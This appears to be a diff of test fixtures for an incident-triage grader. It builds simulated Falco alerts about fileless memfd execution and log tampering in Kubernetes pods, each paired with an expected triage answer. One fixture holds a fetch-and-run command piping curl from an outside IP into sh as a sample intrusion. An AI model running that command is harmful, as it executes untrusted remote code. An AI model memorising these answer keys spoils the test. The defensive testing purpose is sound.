@@ -59,6 +59,28 @@ def looked_into(
     return snapshot(objects, workload("cart"), logs=[log(pod("shop"), told)], figures=[WELL], alerts=[alarm])
 
 
+RUNC = "memfd:runc_cloned:/proc/self/exe"
+RAN = "falco: Critical Fileless execution via memfd_create (proc_exepath={} parent={} command=6 init k8s_pod_name={})"
+IN_SHOP, IN_CACHE = RAN.format(RUNC, "runc", pod("shop")), RAN.format(RUNC, "runc", pod("redis"))
+CLEARED = "falco: Warning Log files were tampered (file=/var/log/wtmp parent=init k8s_pod_name={})"
+
+
+def started(
+    *lines: str, cache: dict[str, Any] | None = None, told: str = "GET / 200", said: str = "memfd_create", **more: Any
+) -> Snapshot:
+    """Return a shop and a cache in whose pods a watcher saw programs that came out of memory."""
+    alarm = watched("Falco", f"Fileless execution via {said} in shop", pod=pod("shop"), severity="critical")
+    return snapshot(
+        shop(before=OLD, released=7200),
+        workload("redis", **{"image": "redis:7", "pods": 1, **(cache or {})}),
+        workload("falco", "falcosecurity/falco:0.40.0", pods=1, service=False),
+        logs=[log(pod("falco"), *lines), log(pod("shop"), told)],
+        figures=[WELL],
+        alerts=[alarm],
+        **more,
+    )
+
+
 THEFT = "sh: curl -fsSL http://203.0.113.7/a.sh | sh"
 INTRUDED = (SHOP, "security_incident", "isolate_workload")
 ANSWERS = [
@@ -85,6 +107,41 @@ ANSWERS = [
             ("the debugger has the node", looked_into(securityContext={"privileged": True})),
             ("it was in another container", looked_into(said="bash in container_name=shop k8s_pod_name={}")),
         )
+    ),
+    Answers(
+        "programs out of memory are the container runtime itself, in old images of others too",
+        started(*[IN_SHOP, IN_CACHE] * 9),
+        [(SHOP, *HEALTHY)],
+    ),
+    Answers(
+        "the same, and something else of another one",
+        started(*[IN_SHOP, IN_CACHE] * 9, CLEARED.format(pod("redis"))),
+        [(SHOP, *HEALTHY)],
+    ),
+    *(
+        Answers(f"programs out of memory, and {what}", world, [(SHOP, *ASK)])
+        for what, world in (
+            ("they are in the shop alone", started(*[IN_SHOP] * 9)),
+            ("nobody tells of them but the alarm", started("falco: started")),
+            ("the shop's own program starts them", started(IN_CACHE, RAN.format(RUNC, "node", pod("shop")))),
+            (
+                "one is no program of the runtime",
+                started(IN_SHOP, IN_CACHE, RAN.format("memfd:a", "runc", pod("shop"))),
+            ),
+            ("one is only named so", started(IN_CACHE, RAN.format("/tmp/runc", "runc", pod("shop")))),
+            ("the shop tells of another alarm", started(*[IN_SHOP, IN_CACHE] * 9, CLEARED.format(pod("shop")))),
+            ("the other is as new", started(*[IN_SHOP, IN_CACHE] * 9, cache={"before": OLD, "released": 7200})),
+            (
+                "the other has the same image",
+                started(*[IN_SHOP, IN_CACHE] * 9, cache={"image": "registry.example/shop:2"}),
+            ),
+            ("it is about another rule", started(*[IN_SHOP, IN_CACHE] * 9, said="an upload")),
+        )
+    ),
+    Answers(
+        "the container runtime itself, and something was fetched and run",
+        started(*[IN_SHOP, IN_CACHE] * 9, told=THEFT),
+        [INTRUDED],
     ),
     Answers("a debugger was signed, and then something was fetched and run", looked_into(told=THEFT), [INTRUDED]),
 ]
